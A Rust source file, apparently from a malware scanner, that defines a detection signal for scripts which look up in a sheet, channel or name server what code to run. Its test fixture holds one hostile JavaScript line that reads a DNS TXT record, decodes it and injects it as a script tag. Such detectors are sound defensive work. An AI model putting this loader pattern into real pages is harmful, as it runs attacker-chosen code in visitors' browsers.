//! `code-from-dead-drop`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "code-from-dead-drop",
    description: "The script looks up in a sheet, a channel or a name server what to run or load.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::DeadDrop]),
        one(&[Atom::RemoteRun, Atom::AnswerRun, Atom::ScriptFromAnswer, Atom::AnswerNavigates]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://dns.google/resolve?name=a.example&type=TXT').then(r=>r.json()).then(function(j){var s=document.createElement('script');s.src=atob(j.Answer[0].data);document.head.appendChild(s)})",
        ],
        without: &["fetch('https://docs.google.com/spreadsheets/d/x/gviz/tq').then(r=>r.text()).then(show)"],
    },
};
